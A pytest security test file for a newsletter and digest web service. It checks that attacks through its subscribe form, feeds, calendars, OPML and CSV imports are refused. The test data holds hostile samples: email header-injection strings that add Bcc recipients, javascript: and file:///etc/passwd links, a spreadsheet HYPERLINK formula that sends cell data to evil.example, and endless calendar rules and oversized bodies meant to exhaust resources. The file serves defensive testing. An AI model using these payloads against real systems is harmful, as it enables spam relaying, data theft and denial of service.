"""Attacks tried the way an outsider would: through the public web form, hostile sources, a CSV
file, and the logs. Each test asserts the attack was refused or made harmless."""

from __future__ import annotations

import email
import email.policy
import json
import re
from datetime import UTC, datetime, timedelta

import httpx
import pytest

from tests.conftest import running, sample_config
from tests.smtpserver import MailServer
from vestnesis.config import load_config
from vestnesis.web.pages import create_web_app
from vestnesis.wiring.parts import email_delivery, mailing_parts, web_parts

SECRET = {"VESTNESIS_WEB_SECRET": "a-long-enough-test-secret"}
NOW = datetime(2026, 11, 23, 7, 0, tzinfo=UTC)
BASE = "https://vestnesis.example"


class SteppingClock:
    """A clock the test moves forward."""

    def __init__(self, moment: datetime) -> None:
        self.moment = moment

    def now(self) -> datetime:
        return self.moment

    def advance(self, by: timedelta) -> None:
        self.moment += by


@pytest.fixture
def mail():
    server = MailServer().start()
    yield server
    server.stop()


def make_config(tmp_path, mail, **web):
    settings = {
        "from": "LBB <info@bibliotekari.lv>",
        "smtp_host": "127.0.0.1",
        "smtp_port": mail.port,
        "security": "none",
    }
    return load_config(
        sample_config(tmp_path, email=settings, web={"public_url": BASE, **web}), SECRET
    )


@pytest.fixture
def config(tmp_path, mail):
    return make_config(tmp_path, mail)


def client_for(app, client=("127.0.0.1", 40000)) -> httpx.AsyncClient:
    transport = httpx.ASGITransport(app=create_web_app(web_parts(app)), client=client)
    return httpx.AsyncClient(transport=transport, base_url=BASE)


async def post_subscribe(web: httpx.AsyncClient, **data: str) -> httpx.Response:
    form = await web.get("/subscribe?lang=en")
    token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
    return await web.post("/subscribe", data={"csrf": token, "language": "en", **data})


# --- 1. header injection -----------------------------------------------------------------


async def test_a_name_with_line_breaks_from_the_web_form_adds_no_header_and_no_recipient(
    config, mail
) -> None:
    hostile = (
        "Eve\r\nBcc: victim@elsewhere.example\r\nSubject: free money\r\n\r\n"
        "Click http://evil.example\u2028X-Injected: yes"
    )
    async with running(config, NOW) as app, client_for(app) as web:
        answered = await post_subscribe(web, email="eve@example.lv", name=hostile)
        assert answered.status_code == 200
        await email_delivery(app).drain()
    [received] = mail.received
    assert received.recipients == ("eve@example.lv",)  # nobody else got it
    raw = received.data
    header_block = raw.split(b"\r\n\r\n", 1)[0].decode()
    assert re.search(r"^(Bcc|X-Injected|Subject: free)", header_block, re.M | re.I) is None
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert message.get_all("Subject") is not None and len(message.get_all("Subject")) == 1
    assert "free money" not in message["Subject"]
    [to] = message.get_all("To")
    assert to.addresses[0].addr_spec == "eve@example.lv"
    assert "\n" not in to.addresses[0].display_name and "Eve" in to.addresses[0].display_name
    assert message.get_all("Bcc") is None


async def test_names_are_stored_on_one_line_from_every_entry_point(config, tmp_path) -> None:
    from vestnesis.mailing.email_list import subscribe

    async with running(config, NOW) as app:
        await subscribe(
            mailing_parts(app), "a@example.lv", language="lv", source="bot", name="A\nB\x00C\x85D"
        )
        member = await app.database.subscribers.by_email("a@example.lv")
    assert member is not None and member.name == "A B C D"


def test_headers_are_cleaned_where_they_are_built() -> None:
    from mailer.build import Identity, Links, Template, build_template
    from mailer.render import EmailContent

    content = EmailContent(subject="News\r\nBcc: x@evil.example", text="hi", html="<p>hi</p>")
    identity = Identity(
        sender="LBB <info@bibliotekari.lv>",
        reply_to="",
        list_id="LBB\n<digest.bibliotekari.lv>",
        archive_url=None,
    )
    template = build_template(content, identity, language="lv", now=NOW)
    raw = Template(template).fill(Links(to="m@example.lv", to_name="M\r\nCc: y@evil.example"), "1")
    head = raw.split(b"\r\n\r\n", 1)[0].decode()
    assert re.search(r"^(Bcc|Cc):", head, re.M) is None
    assert "Subject: News Bcc: x@evil.example" in head


def test_an_address_that_would_add_a_recipient_is_refused_where_headers_are_built() -> None:
    from mailer.build import Identity, Links, build_template, personalise
    from mailer.headers import HeaderValueError
    from mailer.render import EmailContent

    identity = Identity("LBB <info@bibliotekari.lv>", "", "LBB <d.bibliotekari.lv>", None)
    template = build_template(
        EmailContent(subject="s", text="t", html="h"), identity, language="lv", now=NOW
    )
    for address in ("a@x.lv, b@evil.example", "a@x.lv\r\nBcc: b@evil.example", "<a@x.lv>"):
        with pytest.raises(HeaderValueError):
            personalise(template, Links(to=address), "1")


def test_config_values_that_go_in_headers_must_be_one_line(tmp_path) -> None:
    from vestnesis.config import ConfigError

    path = sample_config(tmp_path, email={"from": "LBB <info@x.lv>", "list_id": "a\nBcc: b@c"})
    with pytest.raises(ConfigError, match="list_id"):
        load_config(path, SECRET)


# --- 2. abuse of the subscribe form ------------------------------------------------------


async def test_one_client_cannot_mail_strangers_by_the_hundred(tmp_path, mail) -> None:
    config = make_config(tmp_path, mail, subscribe_per_client_per_hour=3)
    clock = SteppingClock(NOW)
    async with running(config, clock=clock) as app, client_for(app) as web:
        codes = [
            (await post_subscribe(web, email=f"stranger{i}@example.lv")).status_code
            for i in range(5)
        ]
        assert codes == [200, 200, 200, 429, 429]
        refused = await post_subscribe(web, email="stranger9@example.lv")
        assert "try again in an hour" in refused.text
        # Another client is not held back by the first one.
        async with client_for(app, client=("198.51.100.7", 5000)) as other:
            assert (await post_subscribe(other, email="friend@example.lv")).status_code == 200
        clock.advance(timedelta(hours=1, seconds=1))
        assert (await post_subscribe(web, email="later@example.lv")).status_code == 200
        await email_delivery(app).drain()
    assert len(mail.received) == 5  # three, the friend, and one after the hour


async def test_the_hourly_cap_holds_across_clients(tmp_path, mail) -> None:
    config = make_config(tmp_path, mail)
    config = config.model_copy(
        update={"email": config.email.model_copy(update={"confirmations_per_hour": 2})}
    )
    async with running(config, NOW) as app:
        codes = []
        for i in range(4):
            async with client_for(app, client=(f"203.0.113.{i}", 1000)) as web:
                codes.append((await post_subscribe(web, email=f"s{i}@example.lv")).status_code)
        await email_delivery(app).drain()
    assert codes == [200, 200, 429, 429]
    assert len(mail.received) == 2


async def test_forwarded_addresses_count_only_from_a_trusted_proxy(tmp_path, mail) -> None:
    config = make_config(
        tmp_path, mail, subscribe_per_client_per_hour=1, trusted_proxies=["127.0.0.1"]
    )
    async with running(config, NOW) as app, client_for(app) as proxy:
        # Behind the proxy, each real client has its own allowance.
        for i, client in enumerate(("192.0.2.1", "192.0.2.2")):
            proxy.headers["x-forwarded-for"] = client
            assert (await post_subscribe(proxy, email=f"p{i}@example.lv")).status_code == 200
        proxy.headers["x-forwarded-for"] = "192.0.2.1"
        assert (await post_subscribe(proxy, email="p9@example.lv")).status_code == 429
        # A client that is not the proxy cannot choose its address by the header.
        async with client_for(app, client=("198.51.100.9", 1)) as direct:
            direct.headers["x-forwarded-for"] = "192.0.2.77"
            assert (await post_subscribe(direct, email="d1@example.lv")).status_code == 200
            direct.headers["x-forwarded-for"] = "192.0.2.78"
            assert (await post_subscribe(direct, email="d2@example.lv")).status_code == 429


# --- 3. bodies are capped before they are read -------------------------------------------


async def test_large_bodies_are_refused_before_any_route_reads_them(config) -> None:
    async with running(config, NOW) as app, client_for(app) as web:
        big = b"x" * (config.web.max_form_body + 1)
        for path in ("/unsubscribe/anything", "/subscribe", "/preferences/forged/delete"):
            answer = await web.post(path, content=big)
            assert answer.status_code == 413, path

        async def endless():
            for _ in range(10_000):  # 640 MB if it were all read
                yield b"y" * 65536

        streamed = await web.post("/unsubscribe/forged", content=endless())
        assert streamed.status_code == 413
        small = await web.post("/unsubscribe/forged", content=b"List-Unsubscribe=One-Click")
        assert small.status_code == 404


# --- 4. who is subscribed does not leak ----------------------------------------------------


async def test_the_subscribe_page_is_sent_before_any_work_is_done(config) -> None:
    """The answer leaves before the database is touched, so its timing cannot tell a new
    address from a listed one; the work follows in the background."""
    async with running(config, NOW) as app:
        web = create_web_app(web_parts(app))
        async with client_for(app) as client:
            form = await client.get("/subscribe")
        token = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
        seen_at_response: list[object] = []
        body = f"email=new%40example.lv&csrf={token}".encode()
        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": "POST",
            "scheme": "https",
            "path": "/subscribe",
            "raw_path": b"/subscribe",
            "query_string": b"",
            "root_path": "",
            "headers": [
                (b"host", b"vestnesis.example"),
                (b"content-type", b"application/x-www-form-urlencoded"),
                (b"content-length", str(len(body)).encode()),
                (b"cookie", f"vestnesis_csrf={token}".encode()),
            ],
            "client": ("127.0.0.1", 1),
            "server": ("vestnesis.example", 443),
        }
        messages = [{"type": "http.request", "body": body, "more_body": False}]

        async def receive():
            return messages.pop(0) if messages else {"type": "http.disconnect"}

        async def send(message):
            if message["type"] == "http.response.body" and not message.get("more_body"):
                seen_at_response.append(await app.database.subscribers.by_email("new@example.lv"))

        await web(scope, receive, send)
        after = await app.database.subscribers.by_email("new@example.lv")
    assert seen_at_response == [None]
    assert after is not None and after.status == "pending"


async def test_the_page_reads_the_same_for_new_listed_and_confirmed_addresses(config) -> None:
    async with running(config, NOW) as app, client_for(app) as web:
        await app.database.subscribers.add(
            "known@example.lv", name=None, language="en", source="cli", confirmed=True, now=NOW
        )
        pages = []
        for address in ("known@example.lv", "fresh@example.lv"):
            answer = await post_subscribe(web, email=address)
            pages.append(answer.text.replace(address, "ADDRESS"))
    assert pages[0] == pages[1]


# --- 5. dangerous link schemes -------------------------------------------------------------

HOSTILE_LINKS = (
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    " javascript:alert(1)",
    "//evil.example/x",
)


@pytest.mark.parametrize("url", HOSTILE_LINKS)
def test_only_http_https_and_mailto_links_pass(url: str) -> None:
    from storage import safe_link

    assert safe_link(url) == ""


def test_good_links_pass_unchanged() -> None:
    from storage import safe_link

    for url in ("https://bibliotekari.lv/a?b=1#c", "http://x.lv", "mailto:info@bibliotekari.lv"):
        assert safe_link(url) == url


def test_a_calendar_link_with_a_script_scheme_is_not_kept() -> None:
    from zoneinfo import ZoneInfo

    from feeds.ics import parse_calendar

    data = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//x//EN\r\n"
        "BEGIN:VEVENT\r\nUID:a@x\r\nDTSTAMP:20261101T000000Z\r\nDTSTART:20261210T100000Z\r\n"
        "SUMMARY:Seminārs\r\nURL:javascript:alert(1)\r\nEND:VEVENT\r\n"
        "BEGIN:VEVENT\r\nUID:b@x\r\nDTSTAMP:20261101T000000Z\r\nDTSTART:20261211T100000Z\r\n"
        "SUMMARY:Kursi\r\nURL:https://bibliotekari.lv/kursi\r\nEND:VEVENT\r\n"
        "END:VCALENDAR\r\n"
    ).encode()
    parsed = parse_calendar(
        data, zone=ZoneInfo("Europe/Riga"), start=NOW, end=NOW + timedelta(days=60)
    )
    urls = {event.uid: event.url for event in parsed.events}
    assert urls == {"a@x": "", "b@x": "https://bibliotekari.lv/kursi"}


def test_a_feed_link_with_a_script_scheme_is_not_kept() -> None:
    from feeds.parse import parse_feed

    feed = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>
    <item><title>Bad</title><link>javascript:alert(1)</link><guid>1</guid></item>
    <item><title>Good</title><link>https://bibliotekari.lv/x</link><guid>2</guid></item>
    </channel></rss>"""
    entries = parse_feed(feed, base_url="https://bibliotekari.lv/feed").entries
    from feeds.normalise import Context, normalise

    items, _ = normalise(
        entries,
        Context(now=NOW, source_language="lv", feed_language=None, detector=None),
    )
    assert [(item.title, item.url) for item in items] == [
        ("Bad", None),
        ("Good", "https://bibliotekari.lv/x"),
    ]


def test_rendered_email_and_telegram_never_carry_a_script_link() -> None:
    """A view that reached the renderers with a bad link (an old row, a new code path) still
    renders it as plain text."""
    from bot.render import render_digest
    from mailer.render import EmailRenderer
    from tests.test_render import reader

    base = reader("lv")
    from vestnesis.digest.model import Digest, DigestEntry, DigestSection
    from vestnesis.digest.wording import digest_view

    digest = Digest(
        period_start=NOW - timedelta(days=7),
        period_end=NOW,
        sections=(
            DigestSection(
                kind="source",
                name="LBB",
                entries=(
                    DigestEntry(
                        item_id=1,
                        source="LBB",
                        title="Bad link",
                        summary="s",
                        url="javascript:alert(1)",
                        language="lv",
                        published=NOW,
                    ),
                ),
            ),
        ),
    )
    from dataclasses import replace

    through_wording = digest_view(digest, base)
    [section] = through_wording.sections
    [shown] = section.entries
    assert shown.url is None
    # A view that reaches the renderers with a bad link anyway is rendered without it.
    forged = replace(
        through_wording,
        sections=(replace(section, entries=(replace(shown, url="javascript:alert(1)"),)),),
    )
    for view in (through_wording, forged):
        html = EmailRenderer().render(view).html
        telegram = "".join(message.html for message in render_digest(view))
        for text in (html, telegram):
            assert "javascript:" not in text
            assert "Bad link" in text


# --- 7. secrets in debug logs --------------------------------------------------------------


@pytest.fixture
def api():
    from tests.botapi import BotApi

    server = BotApi()
    yield server
    server.stop()


async def test_debug_logs_of_the_webhook_bot_hold_no_secret(tmp_path, api, capfd) -> None:
    import logging

    from tests.test_bot import bot, bot_config
    from vestnesis.common.logs import setup_logging

    config = bot_config(tmp_path, api, mode="webhook")
    derived = config.webhook_secret()
    token = config.telegram.token.get_secret_value()
    web_secret = config.web.secret.get_secret_value()
    setup_logging(level="DEBUG", secrets=config.secrets())
    try:
        async with bot(config) as (_app, runtime):
            assert runtime.webhook_secret == derived
            logging.getLogger("vestnesis.test").debug("failed", exc_info=ValueError(derived))
    finally:
        logging.getLogger().handlers.clear()
    [registered] = [c for c in api.calls if c.method == "setWebhook"]
    assert registered.params["secret_token"] == derived
    logged = "".join(capfd.readouterr())
    assert "setWebhook" in logged  # python-telegram-bot did log the call at DEBUG
    for secret in (derived, token, web_secret):
        assert secret not in logged


def test_the_derived_webhook_secret_reveals_nothing_it_is_made_from(tmp_path) -> None:
    import hashlib

    from tests.test_bot import BotApi, bot_config

    api = BotApi()
    try:
        config = bot_config(tmp_path, api, mode="webhook")
    finally:
        api.stop()
    derived = config.webhook_secret()
    web_secret = config.web.secret.get_secret_value()
    token = config.telegram.token.get_secret_value()
    assert len(derived) == 64 and derived in config.secrets()
    # Not a plain hash of what it is keyed with (which anyone holding a logged value could test).
    assert derived not in {
        hashlib.sha256((web_secret + token).encode()).hexdigest(),
        hashlib.sha256(web_secret.encode()).hexdigest(),
        hashlib.sha256(token.encode()).hexdigest(),
    }


# --- 8. CSV formula injection --------------------------------------------------------------


def test_an_export_opens_as_text_in_a_spreadsheet_and_imports_back_unchanged(tmp_path) -> None:
    import csv
    import io

    from click.testing import CliRunner

    from vestnesis.cli.main import cli

    server = MailServer().start()
    try:
        path = sample_config(
            tmp_path,
            email={"from": "LBB <i@bibliotekari.lv>", "smtp_port": server.port, "security": "none"},
        )
        table = tmp_path / "in.csv"
        hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
        rows = [
            ("a@example.lv", hostile),
            ("b@example.lv", "+3712000000"),
            ("c@example.lv", "-Anna"),
            ("d@example.lv", "@Jānis"),
            ("e@example.lv", "Ilze"),
        ]
        table.write_text(
            "email,name,language\n"
            + "".join(f'{e},"{n.replace(chr(34), 2 * chr(34))}",lv\n' for e, n in rows),
            "utf-8",
        )

        def run(*args: str):
            return CliRunner(env=SECRET).invoke(
                cli, ["--config", str(path), *args], catch_exceptions=False
            )

        assert (
            "Imported 5 new members"
            in run("subscribers", "import", str(table), "--confirmed").stdout
        )
        exported = run("subscribers", "export").stdout
        cells = {r["email"]: r["name"] for r in csv.DictReader(io.StringIO(exported))}
        assert all(not name.startswith(("=", "+", "-", "@")) for name in cells.values())
        assert cells["a@example.lv"] == "'" + hostile and cells["e@example.lv"] == "Ilze"
        # Importing the export into a fresh list gives the same names back.
        again = tmp_path / "again"
        again.mkdir()
        out = again / "out.csv"
        out.write_text(exported, "utf-8")
        path2 = sample_config(
            again,
            email={"from": "LBB <i@bibliotekari.lv>", "smtp_port": server.port, "security": "none"},
        )
        path = path2
        run("subscribers", "import", str(out), "--confirmed")
        listed = [
            json.loads(line) for line in run("subscribers", "list", "--json").stdout.splitlines()
        ]
        assert {m["email"]: m["name"] for m in listed} == dict(rows)
    finally:
        server.stop()


def test_a_csv_name_with_a_line_break_never_reaches_a_header(tmp_path, mail) -> None:
    """The case `members-name-line-break.csv`: a quoted name with a line break."""
    from click.testing import CliRunner

    from vestnesis.cli.main import cli

    config_path = sample_config(
        tmp_path,
        email={
            "from": "LBB <i@bibliotekari.lv>",
            "smtp_host": "127.0.0.1",
            "smtp_port": mail.port,
            "security": "none",
        },
        web={"public_url": BASE},
    )
    table = tmp_path / "members.csv"
    table.write_text(
        'email,name,language\nm@example.lv,"Mārtiņš\r\nBcc: all@elsewhere.example",lv\n', "utf-8"
    )
    runner = CliRunner(env=SECRET)
    imported = runner.invoke(
        cli,
        ["--config", str(config_path), "subscribers", "import", str(table)],
        catch_exceptions=False,
    )
    assert "Imported 1 new members" in imported.stdout
    [received] = mail.received  # the confirmation mail
    assert received.recipients == ("m@example.lv",)
    head = received.data.split(b"\r\n\r\n", 1)[0].decode()
    assert re.search(r"^Bcc:", head, re.M) is None
    assert received.message["To"].addresses[0].display_name == "Mārtiņš Bcc: all@elsewhere.example"


# --- 9. resource bombs from sources ----------------------------------------------------------


def _calendar(*events: str) -> bytes:
    body = "".join(
        f"BEGIN:VEVENT\r\nUID:{i}@x\r\nDTSTAMP:20261101T000000Z\r\n{text}\r\nEND:VEVENT\r\n"
        for i, text in enumerate(events)
    )
    return (
        f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//x//EN\r\n{body}END:VCALENDAR\r\n".encode()
    )


@pytest.mark.parametrize(
    "rule",
    [
        "FREQ=SECONDLY",
        "FREQ=MINUTELY",
        "FREQ=MINUTELY;INTERVAL=2;UNTIL=20301231T000000Z",
        "FREQ=DAILY;BYHOUR=0,1,2,3,4,5,6,7,8,9,10,11;BYMINUTE=0,10,20,30,40,50",
        "FREQ=HOURLY;COUNT=100000000",
    ],
)
def test_an_endless_high_frequency_rule_is_skipped_and_the_rest_kept(rule: str) -> None:
    from zoneinfo import ZoneInfo

    from feeds.ics import parse_calendar

    data = _calendar(
        f"DTSTART:20200101T000000Z\r\nRRULE:{rule}\r\nSUMMARY:Bomb",
        "DTSTART:20261210T100000Z\r\nSUMMARY:Seminārs",
        "DTSTART:20261201T100000Z\r\nRRULE:FREQ=WEEKLY;COUNT=4\r\nSUMMARY:Lasītava",
    )
    parsed = parse_calendar(
        data, zone=ZoneInfo("Europe/Riga"), start=NOW, end=NOW + timedelta(days=366)
    )
    titles = [event.title for event in parsed.events]
    assert "Bomb" not in titles
    assert titles.count("Lasītava") == 4 and "Seminārs" in titles
    assert parsed.skipped == 1 and "Bomb" in parsed.warnings[0]


def test_a_calendar_of_many_daily_series_is_refused_whole() -> None:
    from zoneinfo import ZoneInfo

    from feeds.ics import CalendarError, parse_calendar

    series = (
        f"DTSTART:20261124T10{i % 60:02d}00Z\r\nRRULE:FREQ=DAILY\r\nSUMMARY:S{i}"
        for i in range(200)
    )
    with pytest.raises(CalendarError, match="occurrences"):
        parse_calendar(
            _calendar(*series),
            zone=ZoneInfo("Europe/Riga"),
            start=NOW,
            end=NOW + timedelta(days=366),
        )


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "ftp://example.org/feed",
        "javascript:alert(1)",
        "/dev/zero",
        "feed.xml",
    ],
)
def test_opml_rows_that_are_not_http_are_refused_by_line(tmp_path, url: str) -> None:
    import json as json_

    from click.testing import CliRunner

    from vestnesis.cli.main import cli

    path = sample_config(tmp_path)
    opml = tmp_path / "list.opml"
    opml.write_text(
        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
        f'<outline text="Hostile" xmlUrl="{url}"/>'
        '<outline text="Good" xmlUrl="https://bibliotekari.lv/feed"/></body></opml>',
        "utf-8",
    )
    runner = CliRunner(env=SECRET)
    result = runner.invoke(cli, ["--config", str(path), "feeds", "import-opml", str(opml)])
    assert result.exit_code == 0
    assert "Imported 1 feeds" in result.stdout and "1 skipped" in result.stdout
    assert "skipped Hostile" in result.stderr and "not an http(s) URL" in result.stderr
    listed = runner.invoke(cli, ["--config", str(path), "feeds", "list", "--json"]).stdout
    names = {json_.loads(line)["name"] for line in listed.splitlines()}
    assert "Hostile" not in names and "Good" in names


def test_feeds_add_takes_only_http_urls(tmp_path) -> None:
    from click.testing import CliRunner

    from vestnesis.cli.main import cli

    path = sample_config(tmp_path)
    runner = CliRunner(env=SECRET)
    for location in ("/dev/zero", "file:///dev/zero", "javascript:alert(1)"):
        result = runner.invoke(cli, ["--config", str(path), "feeds", "add", location])
        assert result.exit_code == 2 and "not an http(s) URL" in result.output
        assert "Traceback" not in result.output


async def test_a_device_file_as_a_source_fails_without_reading_it() -> None:
    from pathlib import Path

    from feeds.fetch import Fetcher, FetchLimits

    async with Fetcher.open(FetchLimits()) as fetcher:
        for device in ("/dev/zero", "/dev/urandom"):
            fetched = await fetcher.fetch(device)
            assert fetched.status == "failed" and "not a regular file" in (fetched.error or "")
        assert (await fetcher.fetch(str(Path(__file__)))).status == "ok"


# --- found by a cold attack on the first version -------------------------------------------


@pytest.mark.parametrize(
    "rule",
    [
        "FREQ=DAILY;INTERVAL=0",
        "FREQ=YEARLY;INTERVAL=0",
        "FREQ=DAILY;INTERVAL=00",
        "FREQ=DAILY;INTERVAL=-1",
        "FREQ=DAILY;INTERVAL=0;UNTIL=20301231T000000Z",
    ],
)
def test_a_rule_with_no_positive_interval_is_skipped(rule: str) -> None:
    """dateutil loops for ever on INTERVAL=0; RFC 5545 requires a positive integer."""
    from zoneinfo import ZoneInfo

    from feeds.ics import parse_calendar

    data = _calendar(
        f"DTSTART:20261201T100000Z\r\nRRULE:{rule}\r\nSUMMARY:Zero",
        "DTSTART:20261210T100000Z\r\nSUMMARY:Seminārs",
    )
    parsed = parse_calendar(
        data, zone=ZoneInfo("Europe/Riga"), start=NOW, end=NOW + timedelta(days=366)
    )
    assert [event.title for event in parsed.events] == ["Seminārs"]
    assert "Zero" in parsed.warnings[0]


def test_a_capitalised_scheme_is_http_not_a_local_path(tmp_path) -> None:
    import json as json_

    from click.testing import CliRunner

    from vestnesis.cli.main import cli

    path = sample_config(tmp_path)
    runner = CliRunner(env=SECRET)
    # A folder named like the URL would have been read as a local feed.
    local = tmp_path / "HTTP:" / "127.0.0.1:9"
    local.mkdir(parents=True)
    (local / "feed").write_text("<rss/>", "utf-8")
    added = runner.invoke(
        cli, ["--config", str(path), "feeds", "add", "HTTP://127.0.0.1:9/feed", "--no-check"]
    )
    assert added.exit_code == 0, added.output
    listed = runner.invoke(cli, ["--config", str(path), "feeds", "list", "--json"]).stdout
    urls = [
        json_.loads(line).get("url") or json_.loads(line).get("location")
        for line in listed.splitlines()
    ]
    assert "http://127.0.0.1:9/feed" in urls


async def test_only_the_config_may_name_a_local_file_as_a_source(config) -> None:
    from storage import SourceSpec

    async with running(config, NOW) as app:
        feed = str(__import__("pathlib").Path(__file__).parent / "fixtures" / "lbd.ics")
        await app.database.sources.add(SourceSpec("Sneaky", feed, None, "opml"), NOW)
        [source] = [s for s in await app.database.sources.active() if s.name == "Sneaky"]
        report = await app.poller.poll_one(source)
    assert report.status == "failed" and "not an http(s) URL" in (report.error or "")


@pytest.mark.parametrize("url", ["http://127.0.0.1:99999/x", "http://exa mple.org/x"])
def test_a_url_with_a_bad_port_or_a_space_is_refused_in_one_line(tmp_path, url: str) -> None:
    from click.testing import CliRunner

    from vestnesis.cli.main import cli

    result = CliRunner(env=SECRET).invoke(
        cli, ["--config", str(sample_config(tmp_path)), "feeds", "add", url]
    )
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "port" in result.output or "spaces" in result.output


def test_opml_names_are_kept_on_one_line() -> None:
    from feeds.opml import read_opml

    [outline] = read_opml(
        b'<opml version="2.0"><body><outline text="News&#10;Bcc: x&#x2028;y" '
        b'xmlUrl="https://a.lv/f"/></body></opml>'
    )
    assert outline.name == "News Bcc: x y"


async def test_requests_that_used_to_end_in_a_500_get_a_clear_answer(config) -> None:
    async with running(config, NOW) as app, client_for(app) as web:
        assert (await web.get("/archive/99999999999999999999999")).status_code == 404
        forged = await web.post(
            "/subscribe",
            content="csrf=ēēē&email=a%40b.lv".encode(),
            headers={
                "content-type": "application/x-www-form-urlencoded",
                "cookie": "vestnesis_csrf=éééé".encode(),
            },
        )
        assert forged.status_code == 403


async def test_a_webhook_update_of_the_wrong_shape_gets_400(config) -> None:
    received: list[dict] = []

    async def feed(update: dict) -> None:
        if "message" in update and not isinstance(update["message"], dict):
            raise TypeError("bad shape")
        received.append(update)

    async with running(config, NOW) as app:
        web = create_web_app(web_parts(app), None, (feed, "s" * 32))
        headers = {"x-telegram-bot-api-secret-token": "s" * 32}
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=web), base_url=BASE
        ) as client:
            deep = "[" * 100_000 + "]" * 100_000
            for body in (deep, "[1, 2]", '{"update_id": "x"}', '{"update_id": 1, "message": 5}'):
                answer = await client.post("/telegram/webhook", content=body, headers=headers)
                assert answer.status_code == 400, body[:30]
            ok = await client.post("/telegram/webhook", json={"update_id": 2}, headers=headers)
            assert ok.status_code == 200
    assert received == [{"update_id": 2}]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("from", "LBB\u2028Bcc: evil@example.org <info@bibliotekari.lv>"),
        ("from", "=?utf-8?q?LBB=0D=0ABcc:_x@evil.example?= <info@bibliotekari.lv>"),
        ("from", "LBB <info@bibliotekari.lv>, other@evil.example"),
        ("reply_to", "a@b.lv\u2029c@d.lv"),
    ],
)
def test_header_values_in_the_config_must_be_one_address_on_one_line(tmp_path, key, value) -> None:
    from vestnesis.config import ConfigError

    path = sample_config(tmp_path, email={"from": "LBB <info@bibliotekari.lv>", key: value})
    with pytest.raises(ConfigError, match=key):
        load_config(path, SECRET)


def test_a_public_url_with_a_line_break_is_refused(tmp_path) -> None:
    from vestnesis.config import ConfigError

    path = sample_config(
        tmp_path, web={"public_url": "http://127.0.0.1:8397/\r\nBcc: x@evil.example"}
    )
    with pytest.raises(ConfigError, match="public_url"):
        load_config(path, SECRET)


async def test_a_body_sent_a_byte_at_a_time_is_cut_off(tmp_path, mail) -> None:
    import asyncio

    config = make_config(tmp_path, mail, body_timeout="1s")
    async with running(config, NOW) as app:
        web = create_web_app(web_parts(app))
        sent: list[dict] = []
        chunks = [{"type": "http.request", "body": b"e", "more_body": True}]

        async def receive():
            if chunks:
                return chunks.pop()
            await asyncio.sleep(3600)  # the rest never comes
            return {"type": "http.disconnect"}

        async def send(message):
            sent.append(message)

        scope = {
            "type": "http",
            "method": "POST",
            "path": "/subscribe",
            "headers": [],
            "query_string": b"",
            "client": ("127.0.0.1", 1),
        }
        await asyncio.wait_for(web(scope, receive, send), timeout=30)
    assert sent[0]["status"] == 408
